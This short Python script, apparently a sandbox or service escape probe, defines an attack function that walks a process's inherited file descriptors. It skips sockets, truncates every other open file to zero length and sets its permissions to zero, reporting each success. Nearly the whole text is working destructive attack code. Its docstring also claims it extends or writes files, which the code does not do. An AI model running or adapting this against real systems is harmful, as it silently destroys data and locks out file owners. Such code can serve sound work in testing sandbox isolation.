"""Looks for the descriptor of the images, to cut or extend or write it."""

import os
import stat


def attack(image):
    for number in range(3, 4096):
        try:
            found = os.fstat(number)
        except OSError:
            continue
        if stat.S_ISSOCK(found.st_mode):
            continue  # the connection: a plain user owns it, and nobody asks for its mode
        if found.st_size:
            print("GOT a file of", found.st_size)
        for attempt in (os.ftruncate, os.fchmod):
            try:
                attempt(number, 0)
            except OSError:
                continue
            print("GOT", number)
